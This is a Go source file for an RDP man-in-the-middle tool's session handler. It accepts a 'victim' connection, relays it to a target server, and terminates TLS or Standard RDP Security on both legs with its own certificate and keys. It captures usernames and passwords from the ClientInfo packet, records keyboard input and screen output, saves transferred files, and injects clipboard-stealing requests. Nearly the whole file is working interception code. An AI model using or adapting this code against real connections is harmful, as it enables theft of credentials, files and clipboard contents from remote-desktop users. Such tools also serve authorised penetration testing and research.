package mitm

import (
	"bytes"
	"crypto/rsa"
	"crypto/tls"
	"io"
	"net"

	"github.com/GoFeGroup/rdpmitm/config"
	"github.com/GoFeGroup/rdpmitm/core"
	"github.com/GoFeGroup/rdpmitm/glog"
	"github.com/GoFeGroup/rdpmitm/proto/fastpath"
	"github.com/GoFeGroup/rdpmitm/proto/gcc"
	"github.com/GoFeGroup/rdpmitm/proto/mcs"
	"github.com/GoFeGroup/rdpmitm/proto/mcs/per"
	"github.com/GoFeGroup/rdpmitm/proto/security"
	"github.com/GoFeGroup/rdpmitm/proto/segmentation"
	"github.com/GoFeGroup/rdpmitm/proto/tpkt"
	"github.com/GoFeGroup/rdpmitm/proto/virtualchannel"
	"github.com/GoFeGroup/rdpmitm/proto/x224"
	"github.com/GoFeGroup/rdpmitm/recorder"
)

// Session drives one victim connection end to end: negotiation, basic
// settings exchange, channel connection, RDP security commencement, the
// one-time ClientInfo intercept, and the steady-state relay, mirroring
// gordp's own Connect() sequence but doubled across both connection legs
// per spec.md §4.7.
//
// The MITM starts TLS on both legs when the negotiated protocol includes
// it, which every modern RDP client offers. When it doesn't — the
// connection falls back to Standard RDP Security — the MITM instead plays
// both halves of MS-RDPBCGR's native security handshake: it hands the
// victim a self-signed certificate chain of its own and decrypts/re-signs
// every slow-path and fast-path PDU crossing between the two independently
// keyed RC4 sessions. See native_security.go and DESIGN.md.
type Session struct {
	cfg     *config.Config
	tlsCert tls.Certificate
	rec     *recorder.Recorder
	log     *glog.SessionLogger

	savedFilesDir string

	victim *core.Stream
	target *core.Stream

	selectedProtocol uint32
	nativeSecurity   bool

	victimUserId uint16
	targetUserId uint16
	ioChannelId  uint16
	channelIds   []uint16

	clientData *gcc.ClientData
	channels   map[uint16]*Channel

	// Native RDP Security state, populated by buildVictimServerSecurity and
	// rdpSecurityCommencement; nil/zero unless nativeSecurity is true.
	nativeRSAKey           *rsa.PrivateKey
	targetServerSecurity   *gcc.ServerSecurityData
	victimServerRandom     []byte
	victimEncryptionMethod uint32
	targetCrypter          *security.RC4CrypterProxy
	victimCrypter          *security.RC4CrypterProxy
	targetMacKey           []byte
	victimMacKey           []byte
	targetFastPathCodec    *fastpath.Codec
	victimFastPathCodec    *fastpath.Codec
}

// NewSession wraps an already-accepted victim connection. sessionID
// identifies this connection in logs and recordings; savedFilesDir is
// where this session's RDPDR captures land (already resolved per
// config.SavedFilesConfig.PrefixWithSessionID).
func NewSession(victimConn net.Conn, cfg *config.Config, tlsCert tls.Certificate, rec *recorder.Recorder, sessionID, savedFilesDir string) *Session {
	return &Session{
		cfg:           cfg,
		tlsCert:       tlsCert,
		rec:           rec,
		log:           glog.NewSessionLogger(sessionID),
		savedFilesDir: savedFilesDir,
		victim:        core.AcceptStream(victimConn),
	}
}

// Run drives the full connection lifecycle and blocks until either leg
// disconnects or the handshake fails.
func (s *Session) Run() error {
	handshakeErr := core.Try(func() {
		s.negotiation()
		s.basicSettingsExchange()
		s.channelConnection()
		s.rdpSecurityCommencement()
		s.secureSettingsExchange()
	})
	if handshakeErr != nil {
		s.log.Error("handshake failed", handshakeErr, nil)
		s.cleanup()
		return handshakeErr
	}

	relayErr := s.steadyState()
	s.cleanup()
	if relayErr != nil && relayErr != io.EOF {
		return relayErr
	}
	return nil
}

func (s *Session) cleanup() {
	if s.victim != nil {
		s.victim.Close()
	}
	if s.target != nil {
		s.target.Close()
	}
	s.rec.RecordConnectionClose()
}

// --- Connection Initiation (MS-RDPBCGR §1.3.1.1 phase 1) ---

func (s *Session) negotiation() {
	victimFrame := tpkt.Read(s.victim)
	victimPDU, ok := x224.ReadPDU(bytes.NewReader(victimFrame)).(*x224.ConnectionRequestPDU)
	core.ThrowIf(!ok, errUnexpectedHandshakePDU("connection-request"))

	requested := x224.ProtocolSSL
	if victimPDU.Negotiation != nil {
		requested = victimPDU.Negotiation.Result
	}

	target, err := core.DialStream(s.cfg.Target.Addr(), s.cfg.Target.ConnectTimeout)
	core.ThrowError(err)
	s.target = target

	targetReq := &x224.ConnectionRequestPDU{
		Cookie:      victimPDU.Cookie,
		Negotiation: &x224.Negotiation{Type: x224.TypeNegReq, Result: requested},
	}
	writeX224(s.target, func(w io.Writer) { x224.WriteConnectionRequest(w, targetReq) })

	targetFrame := tpkt.Read(s.target)
	targetConfirm, ok := x224.ReadPDU(bytes.NewReader(targetFrame)).(*x224.ConnectionConfirmPDU)
	core.ThrowIf(!ok, errUnexpectedHandshakePDU("connection-confirm"))
	core.ThrowIf(targetConfirm.Negotiation != nil && targetConfirm.Negotiation.IsNLAFailure(), errTargetRequiresNLA{})
	core.ThrowIf(targetConfirm.Negotiation != nil && targetConfirm.Negotiation.IsFailure() && !targetConfirm.Negotiation.IsNLAFailure(), errTargetNegotiationFailed(targetConfirm.Negotiation.Result))

	s.selectedProtocol = 0
	if targetConfirm.Negotiation != nil {
		s.selectedProtocol = targetConfirm.Negotiation.Result
	}

	victimConfirm := &x224.ConnectionConfirmPDU{Negotiation: &x224.Negotiation{Type: x224.TypeNegRsp, Result: s.selectedProtocol}}
	writeX224(s.victim, func(w io.Writer) { x224.WriteConnectionConfirm(w, victimConfirm) })

	s.nativeSecurity = s.selectedProtocol&x224.ProtocolSSL == 0
	if s.nativeSecurity {
		s.log.Info("no tls in negotiated protocol, standard rdp security in effect", nil)
		return
	}
	core.ThrowError(s.target.StartClientTLS())
	core.ThrowError(s.victim.StartServerTLS(s.tlsCert))
	s.log.Info("tls established on both legs", nil)
}

// --- Basic Settings Exchange (phase 2): MCS Connect Initial/Response + GCC ---

func (s *Session) basicSettingsExchange() {
	victimInitial := mcs.ReadConnectInitial(readX224Body(s.victim))
	s.clientData = gcc.ParseClientData(victimInitial.UserData)
	if s.clientData.Core != nil {
		s.clientData.Core.ClearWant32Bpp()
	}
	mutatedClientData := s.clientData.Serialize()
	s.rec.RecordClientData(mutatedClientData)

	targetInitial := mcs.NewConnectInitial(mutatedClientData)
	writeX224(s.target, func(w io.Writer) { x224.Write(w, targetInitial.Serialize()) })

	targetResponse := mcs.ReadConnectResponse(readX224Body(s.target))
	serverCore, serverSecurity, channelIds := gcc.ParseServerData(targetResponse.UserData)
	core.ThrowIf(serverCore == nil, errMissingServerCore{})
	s.channelIds = channelIds

	var victimServerSecurity *gcc.ServerSecurityData
	if s.nativeSecurity {
		core.ThrowIf(serverSecurity == nil || serverSecurity.EncryptionMethod == 0, errMissingServerSecurity{})
		s.targetServerSecurity = serverSecurity
		victimServerSecurity = s.buildVictimServerSecurity(serverSecurity.EncryptionMethod)
	} else {
		if serverSecurity == nil {
			serverSecurity = &gcc.ServerSecurityData{} // TLS/CredSSP: both fields stay zero
		}
		victimServerSecurity = serverSecurity
	}

	network := &mcs.ServerNetworkData{McsChannelId: mcs.MCS_CHANNEL_GLOBAL, ChannelIdArray: channelIds}

	userData := new(bytes.Buffer)
	userData.Write(serverCore.Serialize())
	userData.Write(victimServerSecurity.Serialize())
	userData.Write(network.Serialize())

	victimResponse := mcs.NewConnectResponse(userData.Bytes())
	writeX224(s.victim, func(w io.Writer) { x224.Write(w, victimResponse.Serialize()) })
}

// --- Channel Connection (phase 3): ErectDomain/AttachUser/ChannelJoin ---

func (s *Session) channelConnection() {
	writeX224(s.target, func(w io.Writer) { x224.Write(w, (&mcs.ClientErectDomain{}).Serialize()) })
	writeX224(s.target, func(w io.Writer) { x224.Write(w, (&mcs.ClientAttachUserRequest{}).Serialize()) })

	targetAttachConfirm := &mcs.ServerAttachUserConfirm{}
	targetAttachConfirm.Read(bytes.NewReader(readX224Body(s.target)))
	s.targetUserId = targetAttachConfirm.UserId

	allChannelIds := append([]uint16{mcs.MCS_CHANNEL_GLOBAL}, s.channelIds...)
	for _, id := range allChannelIds {
		req := &mcs.ClientChannelJoinRequest{UserId: s.targetUserId, ChannelId: id}
		writeX224(s.target, func(w io.Writer) { x224.Write(w, req.Serialize()) })

		confirm := &mcs.ServerChannelJoinConfirm{}
		confirm.Read(bytes.NewReader(readX224Body(s.target)))
		core.ThrowIf(confirm.Result != 0, errChannelJoinFailed(id))
	}

	// The victim leg plays MCS server: the MITM assigns its own user id.
	// Reusing the target's numeric id is safe (the two MCS domains are
	// entirely independent TCP connections) and lets the steady-state
	// relay forward send-data frames byte-for-byte, since the "initiator"
	// field then matches on both legs.
	s.victimUserId = s.targetUserId

	(&mcs.ClientErectDomain{}).Read(bytes.NewReader(readX224Body(s.victim)))

	victimAttachReq := &mcs.ClientAttachUserRequest{}
	victimAttachReq.Read(bytes.NewReader(readX224Body(s.victim)))
	writeX224(s.victim, func(w io.Writer) {
		x224.Write(w, (&mcs.ServerAttachUserConfirm{UserId: s.victimUserId}).Serialize())
	})

	for range allChannelIds {
		joinReq := &mcs.ClientChannelJoinRequest{}
		joinReq.Read(bytes.NewReader(readX224Body(s.victim)))
		confirm := &mcs.ServerChannelJoinConfirm{Result: 0, UserId: joinReq.UserId, ChannelId: joinReq.ChannelId}
		writeX224(s.victim, func(w io.Writer) { x224.Write(w, confirm.Serialize()) })
	}

	s.ioChannelId = mcs.MCS_CHANNEL_GLOBAL
	s.channels = make(map[uint16]*Channel, len(s.channelIds))
	if s.clientData.Network != nil {
		for i, id := range s.channelIds {
			if i >= len(s.clientData.Network.Channels) {
				break
			}
			name := gcc.ChannelName(s.clientData.Network.Channels[i])
			s.channels[id] = BuildChannel(name, id, s.rec, s.savedFilesDir)
		}
	}
}

// --- Secure Settings Exchange (phase 5): the one PDU the MITM mutates ---

func (s *Session) secureSettingsExchange() {
	channelId, payload := readSendData(readX224Body(s.victim))
	core.ThrowIf(channelId != s.ioChannelId, errUnexpectedChannel{want: s.ioChannelId, got: channelId})

	clientInfo := payload
	if s.nativeSecurity {
		_, clientInfo = decryptSecured(s.victimCrypter, payload)
	}

	forward, username, password := InterceptClientInfo(clientInfo, s.cfg.Credentials)
	s.rec.RecordClientInfo(clientInfo)
	if username != "" || password != "" {
		s.log.Info("captured client credentials", map[string]interface{}{"username": username})
	}

	outBody := forward
	if s.nativeSecurity {
		outBody = encryptSecured(s.targetCrypter, s.targetMacKey, security.SEC_ENCRYPT|security.SEC_INFO_PKT, forward)
	}

	req := mcs.NewSendDataRequest(s.targetUserId, s.ioChannelId)
	writeX224(s.target, func(w io.Writer) { x224.Write(w, req.Serialize(outBody)) })
}

// --- Licensing / Capabilities Exchange / Connection Finalization / Data
// exchange (phases 6-9): everything past ClientInfo is relayed untouched
// except for the per-channel taps, since channel ids and MCS user ids are
// deliberately made identical on both legs above. ---

func (s *Session) steadyState() error {
	errCh := make(chan error, 2)
	go func() { errCh <- segmentation.Run(s.victim, s.onVictimSlowPath, s.onVictimFastPath) }()
	go func() { errCh <- segmentation.Run(s.target, s.onTargetSlowPath, s.onTargetFastPath) }()
	return <-errCh
}

func (s *Session) onVictimSlowPath(frame []byte) { s.relaySlowPath(frame, s.target, true) }
func (s *Session) onTargetSlowPath(frame []byte) { s.relaySlowPath(frame, s.victim, false) }

func (s *Session) relaySlowPath(frame []byte, dst *core.Stream, fromVictim bool) {
	err := core.Try(func() {
		if s.nativeSecurity {
			s.relayNativeSecuritySlowPath(frame, dst, fromVictim)
			return
		}
		s.rec.RecordSlowPathPDU(frame)
		if channelId, payload, ok := peekChannelFrame(frame); ok && channelId != s.ioChannelId {
			if ch, present := s.channels[channelId]; present {
				if fromVictim {
					ch.OnClientToServerChunk(payload)
				} else if inject, wantInject := ch.OnServerToClientChunk(payload); wantInject {
					s.injectChannelData(channelId, inject)
				}
			}
		}
		_, writeErr := dst.Write(frame)
		core.ThrowError(writeErr)
	})
	if err != nil {
		s.log.Warn("slow-path relay error", map[string]interface{}{"error": err.Error(), "from_victim": fromVictim})
	}
}

func (s *Session) onVictimFastPath(frame []byte) {
	if s.nativeSecurity {
		reencrypted, plaintext, err := s.reencryptFastPath(frame, s.victimFastPathCodec, s.targetFastPathCodec)
		if err != nil {
			s.log.Warn("fast-path victim->target re-encrypt failed", map[string]interface{}{"error": err.Error()})
			return
		}
		s.rec.RecordFastPathInput(plaintext)
		if _, err := s.target.Write(reencrypted); err != nil {
			s.log.Warn("fast-path relay to target failed", map[string]interface{}{"error": err.Error()})
		}
		return
	}
	s.rec.RecordFastPathInput(frame)
	if _, err := s.target.Write(frame); err != nil {
		s.log.Warn("fast-path relay to target failed", map[string]interface{}{"error": err.Error()})
	}
}

func (s *Session) onTargetFastPath(frame []byte) {
	if s.nativeSecurity {
		reencrypted, plaintext, err := s.reencryptFastPath(frame, s.targetFastPathCodec, s.victimFastPathCodec)
		if err != nil {
			s.log.Warn("fast-path target->victim re-encrypt failed", map[string]interface{}{"error": err.Error()})
			return
		}
		s.rec.RecordFastPathOutput(plaintext)
		if _, err := s.victim.Write(reencrypted); err != nil {
			s.log.Warn("fast-path relay to victim failed", map[string]interface{}{"error": err.Error()})
		}
		return
	}
	s.rec.RecordFastPathOutput(frame)
	if _, err := s.victim.Write(frame); err != nil {
		s.log.Warn("fast-path relay to victim failed", map[string]interface{}{"error": err.Error()})
	}
}

// injectChannelData sends an unsolicited PDU toward the target on channelId
// — the clipboard stealer's own FormatDataRequest, spec.md §4.8.
func (s *Session) injectChannelData(channelId uint16, data []byte) {
	for _, chunk := range virtualchannel.WriteChunks(data, false) {
		req := mcs.NewSendDataRequest(s.targetUserId, channelId)
		body := chunk
		if s.nativeSecurity {
			body = encryptSecured(s.targetCrypter, s.targetMacKey, security.SEC_ENCRYPT, chunk)
		}
		writeX224(s.target, func(w io.Writer) { x224.Write(w, req.Serialize(body)) })
	}
}

// peekChannelFrame inspects a slow-path frame for its MCS channel id and
// payload without otherwise interpreting it; the caller still forwards
// frame unchanged regardless of whether this succeeds.
func peekChannelFrame(frame []byte) (channelId uint16, payload []byte, ok bool) {
	err := core.Try(func() {
		x224Body := tpkt.Read(bytes.NewReader(frame))
		mcsBody := x224.Read(bytes.NewReader(x224Body))
		channelId, payload = readSendData(mcsBody)
	})
	return channelId, payload, err == nil
}

// readSendData parses the shared field layout of send-data-request and
// send-data-indication (identical past the PDU-type choice byte), so the
// relay doesn't need to know which leg's frame it is looking at.
func readSendData(mcsBody []byte) (channelId uint16, payload []byte) {
	r := bytes.NewReader(mcsBody)
	pduType := mcs.ReadMcsPduHeader(r)
	core.ThrowIf(pduType != mcs.PDUTYPE_SEND_DATA_REQUEST && pduType != mcs.PDUTYPE_SEND_DATA_INDICATION, errNotSendData(pduType))
	_ = per.ReadInteger16(r, mcs.MCS_CHANNEL_USERID_BASE) // initiator
	channelId = per.ReadInteger16(r, 0)
	per.ReadEnumerated(r) // dataPriority+segmentation
	return channelId, per.ReadOctetString(r, 0)
}

// --- wire helpers: every handshake PDU rides a TPKT header under X.224 ---

func writeX224(w io.Writer, build func(io.Writer)) {
	buf := new(bytes.Buffer)
	build(buf)
	tpkt.Write(w, buf.Bytes())
}

func readX224Body(r io.Reader) []byte {
	return x224.Read(bytes.NewReader(tpkt.Read(r)))
}

type errUnexpectedHandshakePDU string

func (e errUnexpectedHandshakePDU) Error() string { return "session: expected " + string(e) + " pdu" }

type errTargetRequiresNLA struct{}

func (errTargetRequiresNLA) Error() string {
	return "session: target requires CredSSP/NLA, which this MITM does not support"
}

type errTargetNegotiationFailed uint32

func (e errTargetNegotiationFailed) Error() string { return "session: target refused negotiation" }

type errMissingServerSecurity struct{}

func (errMissingServerSecurity) Error() string {
	return "session: standard rdp security selected but target sent no sc_security encryption data"
}

type errExpectedSecurityExchange struct{}

func (errExpectedSecurityExchange) Error() string {
	return "session: expected a client security exchange pdu"
}

type errMissingServerCore struct{}

func (errMissingServerCore) Error() string { return "session: target's connect response carried no SC_CORE block" }

type errChannelJoinFailed uint16

func (e errChannelJoinFailed) Error() string { return "session: target refused to join a channel" }

type errUnexpectedChannel struct{ want, got uint16 }

func (e errUnexpectedChannel) Error() string {
	return "session: expected client info on the i/o channel"
}

type errNotSendData uint8

func (e errNotSendData) Error() string { return "session: expected send-data request/indication" }
